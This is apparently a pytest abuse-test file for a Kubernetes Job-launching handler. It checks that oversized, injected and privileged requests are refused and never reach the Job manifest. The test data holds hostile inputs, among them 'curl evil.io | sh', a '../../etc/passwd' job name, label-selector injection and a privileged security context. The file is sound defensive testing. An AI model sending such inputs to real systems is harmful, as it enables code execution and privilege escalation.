"""Abuse: requests built to get past the rules (oversized or deeply nested bodies, Job
names carrying paths or label selectors, image look-alikes, header floods, operator
fields such as the namespace or a privileged security context). Each is refused with a
reason naming the field, no Job is created for any of them, and the handler serves the
next good request. Extra fields can never reach the manifest, whatever they are."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handler.core.config import Settings
from handler.core.errors import Rejected
from handler.core.manifest import build_job
from handler.core.messages import Message
from handler.core.request import KNOWN_FIELDS, parse_request
from tests.reliability.fuzzing import json_values, valid_requests
from tests.reliability.test_fuzz import FUZZ

GOOD = {"image": "registry.example.com/team/app:1", "jobName": "good-job", "inputBucketUrl": "http://minio:9000/bucket"}
ALLOWED = "registry.example.com/team,mstc"


def nested(depth: int, leaf: object = 0) -> bytes:
    return b"[" * depth + json.dumps(leaf).encode() + b"]" * depth


def deep_table(depth: int) -> dict:
    table: dict = {"leaf": "x" * 100}
    for _ in range(depth):
        table = {"k": table, "pad": "y" * 100}
    return table


#: (what, body, headers, field, reason): each an attack and how it must be refused.
ATTACKS = [
    ("oversized body", json.dumps(dict(GOOD, pad="x" * 70_000)).encode(), None, "body", "BodyTooLarge"),
    ("deeply nested JSON", nested(30_000), None, "body", "InvalidJson"),
    ("deep nesting inside an extra field", json.dumps(GOOD)[:-1].encode() + b', "x": ' + nested(20_000) + b"}",
     None, "body", "InvalidJson"),
    ("job name with a path", dict(GOOD, jobName="../../etc/passwd"), None, "jobName", "InvalidJobName"),
    ("job name with a slash", dict(GOOD, jobName="team/job"), None, "jobName", "InvalidJobName"),
    ("job name injecting a label selector", dict(GOOD, jobName="x,app.kubernetes.io/managed-by=other"), None,
     "jobName", "InvalidJobName"),
    ("job name injecting a label value", dict(GOOD, jobName="x=y"), None, "jobName", "InvalidJobName"),
    ("job name with a newline", dict(GOOD, jobName="job\nname"), None, "jobName", "InvalidJobName"),
    ("job name too long", dict(GOOD, jobName="a" * 129), None, "jobName", "InvalidJobName"),
    ("image on a look-alike registry", dict(GOOD, image="registry.example.com.evil.io/team/app:1"), None,
     "image", "ImageNotAllowed"),
    ("image in a sibling repository", dict(GOOD, image="registry.example.com/teammate/app:1"), None,
     "image", "ImageNotAllowed"),
    ("image escaping with ..", dict(GOOD, image="registry.example.com/team/../other/app"), None,
     "image", "InvalidImage"),
    ("image in upper case", dict(GOOD, image="registry.example.com/TEAM/app"), None, "image", "InvalidImage"),
    ("image with whitespace", dict(GOOD, image=" registry.example.com/team/app"), None, "image", "InvalidImage"),
    ("image with a short digest", dict(GOOD, image="registry.example.com/team/app@sha256:abc"), None,
     "image", "InvalidImage"),
    ("image with a digest and another registry", dict(GOOD, image="evil.io/team/app@sha256:" + "a" * 64), None,
     "image", "ImageNotAllowed"),
    ("image on the Hub by another owner", dict(GOOD, image="mstcc/python-test"), None, "image", "ImageNotAllowed"),
    ("bucket URL with credentials", dict(GOOD, inputBucketUrl="http://user:pw@minio:9000/bucket"), None,
     "inputBucketUrl", "InvalidBucketUrl"),
    ("the namespace", dict(GOOD, namespace="kube-system"), None, "namespace", "UnknownField"),
    ("a service account", dict(GOOD, serviceAccountName="cluster-admin"), None, "serviceAccountName",
     "UnknownField"),
    ("a privileged security context", dict(GOOD, securityContext={"privileged": True}), None, "securityContext",
     "UnknownField"),
    ("a host path", dict(GOOD, hostPath="/"), None, "hostPath", "UnknownField"),
    ("extra env", dict(GOOD, env=[{"name": "AWS_SECRET_ACCESS_KEY", "value": "x"}]), None, "env", "UnknownField"),
    ("a command", dict(GOOD, command=["sh", "-c", "curl evil.io | sh"]), None, "command", "UnknownField"),
    ("many headers", GOOD, {f"x-h{i}": "v" for i in range(5000)}, "headers", "HeadersTooLarge"),
    ("a huge header", GOOD, {"x-big": "v" * 120_000}, "headers", "HeadersTooLarge"),
    ("deeply nested headers", GOOD, deep_table(200), "headers", "HeadersTooLarge"),
]


@pytest.mark.integration
def test_every_attack_is_refused_with_its_reason_and_the_next_good_request_runs(handlers, requester, fakekube,
                                                                                namespace, figures):
    dead_letters = f"{handlers.queue}.dead"
    handler = handlers.start(allowed_images=ALLOWED, unknown_fields="reject", dead_letter_queue=dead_letters)
    sent = {}
    for what, body, headers, field, reason in ATTACKS:
        cid = requester.submit(body, headers=headers, correlation_id=f"abuse-{len(sent)}")
        sent[cid] = (what, field, reason)
    good = requester.submit(GOOD, correlation_id="good")
    assert requester.wait_reply(good)["data"]["status"] == "succeeded"
    for cid, (what, field, reason) in sent.items():
        data = requester.wait_reply(cid)["data"]
        assert (data["status"], data["field"], data["reason"]) == ("rejected", field, reason), what
    assert fakekube.created_jobs(namespace) == [requester.replies_for(good)[0]["data"]["jobName"]]
    copies = [requester.get_one(dead_letters) for _ in sent]
    assert all(copies) and requester.get_one(dead_letters) is None
    flood_cid = next(cid for cid, (what, _, _) in sent.items() if what == "many headers")
    flood = next(props for props, _ in copies if props.correlation_id == flood_cid)
    assert "x-h1" not in flood.headers and flood.headers["x-rejected-reason"] == "HeadersTooLarge"
    assert handler.thread.is_alive() and handler.service.consumer.stats.requeued == 0
    figures.update(attacks=len(sent), refused=len(sent), jobs_created_for_attacks=0,
                   next_good_request="succeeded")


# --- the operator's fields never reach the manifest (pure, so every shape can be tried)

PLANTED = "PLANTED-by-the-requester"
OPERATOR_FIELDS = {
    "namespace": PLANTED, "serviceAccountName": PLANTED, "automountServiceAccountToken": True,
    "securityContext": {"privileged": True, "runAsUser": 0, "seLinuxOptions": {"user": PLANTED}},
    "privileged": True, "hostPath": f"/{PLANTED}", "hostNetwork": True, "hostPID": True,
    "volumes": [{"name": PLANTED, "hostPath": {"path": "/"}}], "env": [{"name": PLANTED, "value": PLANTED}],
    "envFrom": [{"secretRef": {"name": PLANTED}}], "command": ["sh", "-c", PLANTED], "args": [PLANTED],
    "nodeName": PLANTED, "tolerations": [{"operator": "Exists"}], "labels": {PLANTED: PLANTED},
    "annotations": {PLANTED: PLANTED}, "metadata": {"namespace": PLANTED}, "spec": {"template": PLANTED},
    "image_pull_secrets": PLANTED, "resources": {"limits": {"cpu": PLANTED}}, "activeDeadlineSeconds": 10**9,
}
SETTINGS = Settings.from_env({"CLOUD_WORKER_NAMESPACE": "mstc-dev"})


def manifest_of(body: dict, settings: Settings = SETTINGS) -> dict:
    return build_job(parse_request(Message(json.dumps(body).encode(), "application/json", message_id="m-1"),
                                   settings), settings)


def test_the_operators_fields_in_a_request_never_reach_the_job(figures):
    figures.update(operator_fields=len(OPERATOR_FIELDS))
    job = manifest_of({**OPERATOR_FIELDS, **GOOD})
    assert job == manifest_of(GOOD)
    assert PLANTED not in json.dumps(job)
    assert job["metadata"]["namespace"] == "mstc-dev"
    assert "serviceAccountName" not in job["spec"]["template"]["spec"]
    with pytest.raises(Rejected) as caught:
        manifest_of({**OPERATOR_FIELDS, **GOOD}, Settings.from_env({"CLOUD_WORKER_UNKNOWN_FIELDS": "reject"}))
    assert caught.value.reason == "UnknownField"


@settings(FUZZ, max_examples=300)
@given(body=valid_requests,
       extras=st.dictionaries(st.text(max_size=30).filter(lambda k: k not in KNOWN_FIELDS), json_values, max_size=6))
def test_any_extra_fields_leave_the_manifest_exactly_as_without_them(body, extras):
    assert manifest_of({**extras, **body}) == manifest_of(body)
